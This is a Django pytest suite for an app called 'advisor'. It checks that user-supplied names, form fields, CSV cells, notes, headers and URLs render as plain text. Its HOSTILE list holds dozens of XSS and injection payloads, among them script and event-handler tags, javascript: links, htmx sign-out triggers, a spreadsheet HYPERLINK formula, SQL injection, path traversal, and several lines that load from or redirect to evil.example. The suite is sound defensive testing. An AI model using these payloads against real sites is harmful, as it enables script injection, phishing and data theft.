"""Whatever people call things, every page shows it as a text: the elements and attributes are those of a page with plain names."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from advisor.forms.cells import CellError, read_text
from advisor.models import Answer, Company, Scenario, Segment, User, Workspace
from advisor.services.scenario import duplicate
from tests.factories import DIFFERENT_STORY, make_scenario, read, say
from tests.views.conftest import SignIn
from tests.views.pages import Element, Screen, page_of, parse, parts_of, theirs_of

pytestmark = pytest.mark.django_db

HOSTILE = (
    "<script>PWN()</script>",
    "</script><script>PWN()</script>",
    "</title><script>PWN()</script>",
    "<ScRiPt/src=//evil.example/x.js>",
    "<img src=x onerror=PWN()>",
    "<svg/onload=PWN()>",
    "<svg><animate onbegin=PWN() attributeName=x>",
    "<body onload=PWN()>",
    "<input autofocus onfocus=PWN()>",
    "<details open ontoggle=PWN()>",
    "<video><source onerror=PWN()>",
    '<iframe srcdoc="<script>PWN()</script>">',
    "<math><mtext></form><form><mglyph><style><img src onerror=PWN()>",
    "<a href=javascript:PWN()>x</a>",
    "<a href='JaVaScRiPt:PWN()'>x</a>",
    "<a href=java&#x0A;script:PWN()>x</a>",
    "<a href=https://evil.example>Sign in again</a>",
    "<a popup=PWN()>x</a>",
    "<form action=https://evil.example><button>Continue</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=background:url(//evil.example/x)>x</p>",
    '" onmouseover="PWN()" x="',
    "' onmouseover='PWN()' x='",
    "` onmouseover=PWN()",
    '" autofocus onfocus=PWN() x="',
    "javascript:PWN()",
    "data:text/html,<script>PWN()</script>",
    "<div hx-get=/sign-out/ hx-trigger=load>",
    "<div data-hx-post=/sign-out/ data-hx-trigger=load>",
    "<b hx-on:click=PWN()>x</b>",
    "</hx-partial><hx-partial hx-target=body>PWN</hx-partial>",
    "{{ 7 * 7 }} {% csrf_token %} {# x #}",
    "%{x} ${7*7} #{7*7} %s %(name)s {0} {name}",
    "&lt;script&gt;PWN()&lt;/script&gt; &amp; &#60;",
    "<!-- x --> <![CDATA[x]]> <?php x ?>",
    "--><script>PWN()</script><!--",
    "<<b>>x<</b>>",
    "<b",
    "\\u003cscript\\u003ePWN()\\x3c/script\\x3e",
    "%3Cscript%3EPWN()%3C/script%3E",
    "$\\href{javascript:PWN()}{x}$",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe\N{POP DIRECTIONAL FORMATTING}",
    "a\N{ZERO WIDTH SPACE}b\N{ZERO WIDTH JOINER}\N{COMBINING ACUTE ACCENT}\N{PILE OF POO}",
    "x\N{LINE SEPARATOR}y\N{PARAGRAPH SEPARATOR}z",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}PWN()",
    '=HYPERLINK("http://evil.example","x")',
    "' OR 1=1 --",
    "../../etc/passwd",
    "x" * 120,
)
REFUSED = ("a\x00b", "\x1b]0;PWN\x07", "\ufdd0", "x" * 5_000)
EACH = pytest.mark.parametrize("text", HOSTILE)


def as_kept(text: str, longest: int = 120) -> str:
    return read_text(text, longest=longest)


def make_world(workspace: Workspace, person: User, text: str) -> Scenario:
    """Everything that has a name, called so."""
    kept = as_kept(text)
    User.objects.filter(pk=person.pk).update(name=kept)
    Workspace.objects.filter(pk=workspace.pk).update(name=kept)
    company = Company.objects.create(workspace=workspace, name=kept, stage=kept[:60], sector=kept[:60])
    words = {"lir_event": kept, "path_name": kept, "path_name@2": kept, "political@2": "partly", "current_owner": "csm"}
    scenario = make_scenario(company, DIFFERENT_STORY | words, segment=kept, name=kept, author=person)
    Segment.objects.update(note=f"{kept} {kept}")
    make_scenario(company, {"acv": 1_000.0, "motion": 5.0}, segment="Other", name=kept)
    duplicate(read(scenario), kept[:110])
    return scenario


def pages_of(client: Client, scenario: Scenario) -> Iterator[tuple[str, Element]]:
    of_scenario, of_company = f"/scenarios/{scenario.pk}/", f"/companies/{scenario.segment.company_id}/"
    for address in (
        "/",
        "/import/",
        "/imports/",
        "/companies/new/",
        of_company,
        f"{of_company}details/",
        of_scenario,
        f"{of_scenario}details/",
        f"{of_scenario}compare/",
        f"{of_scenario}numbers/",
        f"{of_scenario}pay/",
        f"{of_scenario}pay/plan/",
        f"{of_scenario}history/",
        f"{of_scenario}history/?on=9999-12-31",
    ):
        response = client.get(address)
        assert response.status_code == 200
        yield address.replace(of_scenario, "scenario/").replace(of_company, "company/"), page_of(response)


def skeleton(page: Element) -> list[tuple[str, tuple[str, ...]]]:
    """Every element with the names of its attributes. Addresses in a note become links, which have a test of their own."""
    return [
        (element.tag, tuple(element.attributes))
        for element in page
        if not (element.tag == "a" and "nofollow" in element.attributes.get("rel", ""))
    ]


def strings_in(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings_in(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings_in(item)


@pytest.fixture(scope="module")
def plain_pages() -> dict[str, list[tuple[str, tuple[str, ...]]]]:
    """What pages look like with plain names; filled by the first test."""
    return {}


@pytest.fixture
def plain(
    plain_pages: dict[str, list[tuple[str, tuple[str, ...]]]], client: Client, workspace: Workspace, ana: User
) -> dict[str, list[tuple[str, tuple[str, ...]]]]:
    if not plain_pages:
        scenario = make_world(workspace, ana, "Plain")
        plain_pages.update((address, skeleton(page)) for address, page in pages_of(client, scenario))
        Company.objects.all().delete()
    return plain_pages


@EACH
def test_no_name_becomes_an_element_or_an_attribute(
    text: str, plain: dict[str, list[tuple[str, tuple[str, ...]]]], client: Client, workspace: Workspace, ana: User
) -> None:
    scenario = make_world(workspace, ana, text)
    for address, page in pages_of(client, scenario):
        assert skeleton(page) == plain[address], address


@EACH
def test_every_name_is_shown_as_it_was_typed(text: str, client: Client, workspace: Workspace, ana: User) -> None:
    kept = as_kept(text)
    screen = Screen(client, make_world(workspace, ana, text))
    assert screen.page.one("title").text == f"{kept}, {kept} · {kept}"
    assert screen.page.one("h1").text == kept
    assert screen.texts["lir_event"] == kept
    assert screen.texts["path_name@2"] == kept
    assert screen.page.one("section", class_="note").one("p").text == f"{kept} {kept}"
    assert screen.page.one(data_told="lir_event").one("span", class_="origin")["title"].startswith(f"imported by {kept}, ")
    company = page_of(client.get(f"/companies/{Company.objects.get().pk}/"))
    assert company.one("h1").text == kept
    assert company.one(class_="lead").text == f"{kept[:60].strip()} · {kept[:60].strip()} · {kept}"


@EACH
def test_no_name_enters_a_figure_as_markup(text: str, client: Client, workspace: Workspace, ana: User) -> None:
    scenario = make_world(workspace, ana, text)
    figures = [page_of(client.get(f"/scenarios/{scenario.pk}/")).one("script", id="figure").raw_text]
    figures += [
        client.get(f"/scenarios/{scenario.pk}/charts/{chart}.json?look={look}").content.decode()
        for chart in ("coverage-map", "ownership-quadrant", "responsibilities-map")
        for look in ("page", "picture")
    ]
    figures.append(client.get(f"/scenarios/{scenario.pk}/pay/pay-by-month.json").content.decode())
    for figure in figures:
        assert "<" not in figure
        assert [each for each in strings_in(json.loads(figure)) if "<" in each or ">" in each] == []


@EACH
def test_no_answer_that_others_typed_becomes_an_element(text: str, client: Client, ben: User, scenario: Scenario) -> None:
    kept = as_kept(text)
    User.objects.filter(pk=ben.pk).update(name=kept)
    ben.refresh_from_db()
    screen = Screen(client, scenario)
    say(ben, scenario, {"lir_event": kept})
    response = screen.send({"lir_event": "mine"})
    assert response.status_code == 409
    (answer,) = theirs_of(response)
    assert (answer["text"], answer["conflict"]) == (kept, f"{kept} changed this to {kept} since you opened it.")
    assert [child.tag for child in parts_of(response)["theirs"]] == []
    tags = {element.tag for element in Screen(client, scenario).page}
    Answer.objects.update(revision=3)
    screen.show(client.post(f"{screen.address}answers/", {"based_on": "2", "lir_event": "<i>mine</i>"}))
    assert screen.page.one(id="c-lir_event").all("p")[0].text == (
        f"{kept} changed this to {kept} since you opened it. You wrote <i>mine</i>."
    )
    assert {element.tag for element in screen.page} == tags


@EACH
def test_nothing_typed_comes_back_as_an_element(text: str, client: Client, scenario: Scenario) -> None:
    screen = Screen(client, scenario)
    tags = {element.tag for element in screen.page}
    typed = dict.fromkeys(("acv", "motion", "path_share", "current_team", "political@2", "share_way"), text)
    response = screen.send(typed)
    assert response.status_code == 422
    parts = parts_of(response)
    assert parts.keys() == {f"e-{name}" for name in typed}
    assert [list(part) for part in parts.values()] == [[]] * 6
    screen.show(client.post(f"{screen.address}answers/", typed | {"based_on": "2"}))
    assert {element.tag for element in screen.page} - tags <= {"li", "ul", "a"}
    assert (screen.texts["acv"], screen.texts["motion"]) == (text, text)


@pytest.mark.parametrize("text", [*HOSTILE, *REFUSED])
def test_every_form_takes_it_as_a_text_or_refuses_it_with_a_page(text: str, client: Client, company: Company, scenario: Scenario) -> None:
    sent = {
        f"/companies/{company.pk}/": {"name": text},
        "/companies/new/": {"name": text, "stage": text, "sector": text},
        f"/companies/{company.pk}/details/": {"name": text, "stage": text, "sector": text},
        f"/scenarios/{scenario.pk}/details/": {"scenario": text, "segment": text, "note": text},
        f"/scenarios/{scenario.pk}/duplicate/": {"name": text},
    }
    for address, fields in sent.items():
        response = client.post(address, fields)
        assert response.status_code in (302, 422), address
        if response.status_code == 422:
            assert not {element.tag for element in page_of(response)} & {"b", "img", "iframe", "base", "math", "object", "video"}
    follow = page_of(client.get("/"))
    assert follow.all("h1")[0].text == "Companies"
    for stored in (*Company.objects.values_list("name", "stage", "sector"), *Segment.objects.values_list("name", "note")):
        for each in stored:
            assert each == read_text(each, longest=4_000, keeps_lines=True)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_file_becomes_an_element(text: str, client: Client) -> None:
    quoted = '"' + as_kept(text).replace('"', '""') + '"'
    header = "company,segment,acv_usd,note,lir_event,stage,political\n"

    def preview(cells: str) -> Element:
        response = client.post("/import/", {"file": SimpleUploadedFile("a.csv", (header + cells).encode())}, follow=True)
        assert response.status_code == 200
        return page_of(response)

    good = preview(f'{quoted},{quoted},30k,{quoted},{quoted},{quoted[:50].rstrip(chr(34))}",yes\n')
    assert {element.tag for element in good} <= {element.tag for element in preview("A,B,30k,n,e,s,yes\n")} | {"ul", "li", "label"}
    bad = preview(f"{quoted},{quoted},{quoted},,,,{quoted}\n")
    assert {element.tag for element in bad} <= {element.tag for element in preview("A,B,lots,,,,maybe\n")}


@pytest.mark.parametrize(
    ("note", "addresses"),
    [
        ("See https://example.com/report?a=1&b=2", ["https://example.com/report?a=1&b=2"]),
        ("See http://example.com", ["http://example.com"]),
        ("javascript:PWN()", []),
        ("data:text/html;base64,PHNjcmlwdD4=", []),
        ("JaVaScRiPt://example.com/%0aPWN()", ["http://JaVaScRiPt://example.com/%0APWN()"]),
        ('https://example.com/"onmouseover="PWN()', ["https://example.com/"]),
        ("<a href=https://example.com>x</a>", ["http://href=https://example.com"]),
        ("mail ana@example.com", ["mailto:ana@example.com"]),
    ],
)
def test_only_web_addresses_of_a_note_become_links(note: str, addresses: list[str], client: Client, scenario: Scenario) -> None:
    Segment.objects.update(note=note)
    section = Screen(client, scenario).page.one("section", class_="note")
    assert [link["href"] for link in section.all("a")] == addresses
    assert [link.attributes.keys() - {"href", "rel"} for link in section.all("a")] == [set()] * len(addresses)
    assert section.one("p").text == note
    assert [element.tag for element in section if element.tag not in ("h2", "p", "a")] == []


@pytest.mark.parametrize(
    "header", ["HX-Current-URL", "HX-Target", "HX-Source", "HX-Prompt", "HX-Trigger", "Referer", "User-Agent", "X-Seen", "Cookie"]
)
def test_nothing_of_a_header_comes_back(header: str, client: Client, scenario: Scenario) -> None:
    marker = "<script>PWN('zebra')</script>"
    sent = {"HX-Request": "true", "HX-Request-Type": "partial", "X-Revision": "2", header: marker}
    if header == "Cookie":
        client.cookies["theme"] = "zebra"
        sent.pop("Cookie")
    screen = Screen(client, scenario)
    for response in (
        client.get(screen.address, headers=sent),
        client.post(f"{screen.address}answers/", {"acv": "45k"}, headers=sent),
        client.post(f"{screen.address}answers/", {"acv": "lots"}, headers=sent),
        client.get(f"{screen.address}changes/", headers=sent | {"X-Revision": "0"}),
        client.get("/nowhere/", headers=sent),
    ):
        assert "zebra" not in response.content.decode()
        assert "zebra" not in "".join(f"{value}" for value in response.headers.values())


@pytest.mark.parametrize(
    "address", ["/<script>zebra</script>/", "/scenarios/<b>zebra/", "/companies/1/charts/<b>zebra.png", "/%3Cscript%3Ezebra"]
)
def test_nothing_of_an_address_that_is_none_comes_back(address: str, client: Client, sign_in: SignIn) -> None:
    response = client.get(address)
    assert response.status_code == 404
    page = parse(response.content.decode())
    assert [element.tag for element in page if element.tag in ("b", "script")] == []


def test_names_that_are_no_names_never_get_in() -> None:
    for text in REFUSED:
        with pytest.raises(CellError):
            as_kept(text)
